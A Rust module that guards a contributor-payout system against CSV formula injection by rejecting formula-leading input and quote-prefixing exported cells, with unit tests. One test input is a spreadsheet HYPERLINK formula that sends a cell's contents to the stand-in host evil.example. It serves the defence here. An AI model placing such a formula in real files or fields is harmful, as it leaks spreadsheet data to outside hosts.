//! Free text that contributors type and that staff later open in a spreadsheet.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return as a formula (OWASP, "CSV Injection":
//! <https://owasp.org/www-community/attacks/CSV_Injection>). Two defences, as OWASP
//! recommends:
//! - at input, names, addresses and payout destinations that could start such a cell
//!   are refused with the field error `formula_leading` ([`check`]), so provider upload
//!   files (Wise, PayPal, IRIS) carry validated values unchanged;
//! - every CSV meant for people to open prefixes a formula-leading cell with a single
//!   quote ([`neutralize`]), which also covers values stored before the check existed.

use std::borrow::Cow;

use crate::error::FieldError;

/// The characters OWASP lists as starting a formula.
pub const FORMULA_LEADING: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet could read `value` as a formula: its first character, or its
/// first after leading blanks, is one of [`FORMULA_LEADING`].
pub fn formula_leading(value: &str) -> bool {
    value.starts_with(FORMULA_LEADING) || value.trim_start().starts_with(FORMULA_LEADING)
}

/// The field error for a formula-leading value, if `value` is one.
pub fn check(field: &str, value: &str) -> Option<FieldError> {
    formula_leading(value).then(|| {
        FieldError::new(
            field,
            "formula_leading",
            "must not start with =, +, -, @, a tab or a carriage return (spreadsheets read those as formulas)",
        )
    })
}

/// [`check`] over several optional fields, in order.
pub fn check_all<'a>(fields: impl IntoIterator<Item = (&'a str, Option<&'a str>)>) -> Vec<FieldError> {
    fields.into_iter().filter_map(|(field, value)| value.and_then(|v| check(field, v))).collect()
}

/// A cell for a CSV that people open: a formula-leading value gets a leading single
/// quote, which spreadsheets take as "this is text" (OWASP). Other values are unchanged.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if formula_leading(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn owasp_formula_characters_are_refused() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "  =1+1",
            "=",
        ] {
            let e = check("full_name", bad).unwrap_or_else(|| panic!("{bad:?} accepted"));
            assert_eq!((e.field.as_str(), e.code.as_str()), ("full_name", "formula_leading"));
        }
        for good in ["Ana Example", "José Ñúñez", "O'Neil", "Mary-Jane Smith", "Dee, Jr", "1 Elm St", "", "a=b"] {
            assert!(check("full_name", good).is_none(), "{good:?} refused");
        }
    }

    #[test]
    fn check_all_keeps_order_and_skips_absent_fields() {
        let errors = check_all([("a", Some("=1")), ("b", None), ("c", Some("ok")), ("d", Some("@x"))]);
        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(fields, ["a", "d"]);
    }

    #[test]
    fn neutralize_prefixes_a_single_quote() {
        assert_eq!(neutralize("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralize("-5"), "'-5");
        assert_eq!(neutralize("\t@x"), "'\t@x");
        assert_eq!(neutralize(" =1"), "' =1");
        assert!(matches!(neutralize("Ana"), Cow::Borrowed("Ana")));
        assert_eq!(neutralize("'=1"), "'=1", "already neutral");
    }
}
